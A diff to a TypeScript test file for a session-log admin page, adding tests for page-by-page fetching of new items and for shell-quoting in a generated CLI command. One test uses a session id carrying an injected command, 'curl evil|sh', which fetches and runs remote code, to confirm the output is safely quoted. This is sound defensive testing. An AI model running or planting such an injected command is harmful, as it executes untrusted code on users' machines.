@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { compact } from '../../../adapters/web/admin/log/compact.js';
 import { addressOf, filterOf, toggled } from '../../../adapters/web/admin/log/logFilter.js';
 import { commandOf, fileOf } from '../../../adapters/web/admin/log/logLinks.js';
+import { newsOf } from '../../../adapters/web/admin/log/newsOf.js';
 import { partsShown, rangeOf } from '../../../adapters/web/admin/log/range.js';
 import type { LogKind, LogLine } from '../../../domain/sessionLog/index.js';
 
@@ -93,5 +94,25 @@ describe('the page of a session’s log', () => {
     const fromEnd = { ...open, kinds: [], order: 'newest' } as const;
     assert.equal(commandOf(of, fromEnd), 'brewline session log keg-1.7 --newest');
     assert.equal(fileOf(of, fromEnd, 'ndjson'), '/api/v1/sessions/keg-1.7/log?format=ndjson&order=newest');
+  });
+
+  it('finds what came behind a page of what is known, and asks no further than needed', async () => {
+    const pages: Record<string, string[]> = { first: ['a', 'b'], second: ['b', 'c'], third: ['d'] };
+    const next: Record<string, string | null> = { first: 'second', second: 'third', third: null };
+    const asked: (string | null)[] = [];
+    const ask = async (after: string | null) => {
+      asked.push(after);
+      const page = after ?? 'first';
+      return { items: pages[page]!.map((id) => ({ id })), next: next[page]! };
+    };
+    assert.deepEqual(await newsOf(ask, new Set(['a', 'b'])), [{ id: 'c' }]);
+    assert.deepEqual(asked, [null, 'second']);
+    assert.deepEqual(await newsOf(ask, new Set(['a', 'b', 'c', 'd'])), []);
+  });
+
+  it('gives a command that is safe to paste, whatever its address says', () => {
+    const log = { of: 'sessions', id: 'keg-1.7;curl evil|sh' } as const;
+    const filter = { kinds: [], from: undefined, to: undefined, order: 'oldest' } as const;
+    assert.equal(commandOf(log, filter), "brewline session log 'keg-1.7;curl evil|sh'");
   });
 });
